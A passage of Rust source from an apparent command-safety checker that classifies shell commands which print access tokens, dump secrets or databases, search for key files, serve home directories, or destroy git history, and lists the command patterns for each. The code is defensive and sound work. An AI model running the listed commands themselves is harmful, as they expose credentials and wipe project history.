            "`modprobe {}` loads kernel code that runs with every privilege",
            module.text
        ))
    })
}

/// The service whose access token `form` prints (`gh auth token`, `gcloud auth
/// print-access-token`), with the host names that service is reached at.
pub(crate) fn token_service(found: &Found) -> Option<&'static [&'static str]> {
    found.each_form().find_map(|form| {
        let first = form.first().map(|arg| arg.text.as_str())?;
        if !matches!(
            first,
            "gh" | "glab" | "gcloud" | "az" | "aws" | "npm" | "git" | "pass" | "op"
        ) {
            return None;
        }
        let words: Vec<&str> = form.iter().map(|arg| arg.text.as_str()).collect();
        match words.as_slice() {
            ["gh", "auth", "token", ..] => {
                Some(&["github.com", "githubusercontent.com", "ghcr.io"][..])
            }
            ["glab", "auth", "token", ..] | ["glab", "config", "get", "token", ..] => {
                Some(&["gitlab.com"][..])
            }
            [
                "gcloud",
                "auth",
                "print-access-token" | "print-identity-token",
                ..,
            ] => Some(&["googleapis.com", "google.com"][..]),
            ["az", "account", "get-access-token", ..] => {
                Some(&["azure.com", "microsoft.com", "windows.net"][..])
            }
            ["aws", "configure", "get", ..]
            | ["aws", "sts", "get-session-token", ..]
            | ["aws", "ecr", "get-login-password", ..] => {
                Some(&["amazonaws.com", "aws.amazon.com"][..])
            }
            ["npm", "token", ..]
            | ["git", "credential", "fill", ..]
            | ["pass", "show", ..]
            | ["op", "read", ..] => Some(&[][..]),
            _ => None,
        }
    })
}

/// True if every host `form` sends to belongs to one of `domains`.
pub(crate) fn sends_only_to(form: &[Arg], domains: &[&str]) -> bool {
    let hosts: Vec<&str> = form
        .iter()
        .skip(1)
        .filter(|arg| arg.text.contains("://"))
        .filter_map(|arg| {
            arg.text
                .split_once("://")
                .map(|(_, rest)| rest.split(['/', ':', '@', '?']).next().unwrap_or(""))
        })
        .collect();
    !hosts.is_empty()
        && hosts.iter().all(|host| {
            domains
                .iter()
                .any(|domain| *host == *domain || host.ends_with(&format!(".{domain}")))
        })
}

/// True if `form` prints secrets or whole databases: `kubectl get secret`, `aws configure
/// export-credentials`, a secret manager's read, a database dump, `echo "$API_TOKEN"`, a
/// `find` for key files, a web server publishing the home directory or a key folder.
fn dumps_secrets(form: &[Arg]) -> bool {
    let first = form.first().map(|arg| basename(&arg.text)).unwrap_or("");
    let interesting = matches!(
        first,
        "kubectl"
            | "oc"
            | "aws"
            | "vault"
            | "gcloud"
            | "pg_dump"
            | "pg_dumpall"
            | "mysqldump"
            | "mariadb-dump"
            | "mongodump"
            | "redis-cli"
            | "echo"
            | "printf"
            | "find"
    ) || commands::is_language_interpreter(first);
    if !interesting {
        return false;
    }
    let words: Vec<&str> = form.iter().map(|arg| arg.text.as_str()).collect();
    let has_word = |word: &str| words.contains(&word);
    match words.first().map(|first| basename(first)) {
        Some("kubectl" | "oc") => {
            has_word("get") && words.iter().any(|word| word.starts_with("secret"))
        }
        Some("aws") => {
            has_word("export-credentials")
                || has_word("get-secret-value")
                || (has_word("configure") && has_word("get"))
        }
        Some("vault") => has_word("read") || (has_word("kv") && has_word("get")),
        Some("gcloud") => has_word("secrets") && has_word("access"),
        Some(
            "pg_dump" | "pg_dumpall" | "mysqldump" | "mariadb-dump" | "mongodump" | "redis-cli",
        ) => {
            !matches!(
                words.first().map(|first| basename(first)),
                Some("redis-cli")
            ) || has_word("--rdb")
        }
        Some("echo" | "printf") => words.iter().skip(1).any(|word| {
            word.split('$')
                .skip(1)
                .any(|var| is_secret_name(var.trim_start_matches('{')))
        }),
        Some("find") => words.windows(2).any(|pair| {
            matches!(pair[0], "-name" | "-iname")
                && [
                    "id_rsa",
                    "id_ed25519",
                    "id_ecdsa",
                    "id_*",
                    "*.pem",
                    "*.key",
                    "credentials",
                    ".netrc",
                    ".git-credentials",
                    "*.kdbx",
                    ".env",
                    "*.p12",
                    "*.pfx",
                ]
                .iter()
                .any(|secret| pair[1].trim_matches(['"', '\'']) == *secret)
        }),
        Some(name) if commands::is_language_interpreter(name) => {
            words
                .windows(2)
                .any(|pair| pair[0] == "-m" && pair[1] == "http.server")
                && words.iter().any(|word| {
                    let target = path(word);
                    target == "~"
                        || target == "/"
                        || SECRETS.iter().any(|place| under(&target, place))
                })
        }
        _ => false,
    }
}

/// True if `form` destroys the project's history: deletes or moves the `.git` directory or
/// its objects, deletes the refs of a shared branch, or expires the reflog (the only way
/// back to commits a reset dropped).
pub(crate) fn project_history(found: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    let git_dir = |text: &str| {
        let target = path(text);
        target == ".git"
            || target.ends_with("/.git")
            || target.starts_with(".git/objects")
            || target.contains("/.git/objects")
    };
    match &*name {
        "rm" | "rimraf" | "shred" | "mv" => operands(form).any(|arg| git_dir(&arg.text)),
        "find" => {
            let deletes = form.iter().any(|arg| arg.text == "-delete")
                || form.windows(2).any(|pair| {
                    pair[0].text.starts_with("-exec") && basename(&pair[1].text) == "rm"
                });
            deletes
                && form
                    .iter()
                    .any(|arg| arg.text.contains(".git/objects") || git_dir(&arg.text))
        }
        "git" => {
            let words: Vec<&str> = form.iter().skip(1).map(|arg| arg.text.as_str()).collect();
            let after = |sub: &str| {
                words
                    .iter()
                    .position(|word| *word == sub)
                    .map(|at| &words[at + 1..])
            };
            let expires = after("reflog").is_some_and(|rest| {
                rest.first() == Some(&"expire")
                    && rest.iter().any(|word| {
                        matches!(
                            *word,
                            "--expire=now"
                                | "--expire=all"
                                | "--expire-unreachable=now"
                                | "--expire-unreachable=all"
                        )
                    })
            });
            let deletes_ref = after("update-ref").is_some_and(|rest| {
                rest.first() == Some(&"-d")
                    && rest.get(1).is_some_and(|target| {
                        is_protected_branch(target.trim_start_matches("refs/heads/"))
                    })
            });
            let deletes_branch = after("branch").is_some_and(|rest| {
                rest.iter()
                    .any(|word| matches!(*word, "-D" | "--delete" | "-d"))
                    && rest
                        .iter()
                        .any(|word| matches!(*word, "main" | "master" | "trunk"))
            });
            let empties_index = after("filter-branch").is_some_and(|rest| {
                rest.iter().any(|word| {
                    word.contains("git rm") && (word.contains(" .") || word.contains(" *"))
                })
            });
            expires || deletes_ref || deletes_branch || empties_index
        }
        _ => {
            let _ = found;
            false
        }
    }
}
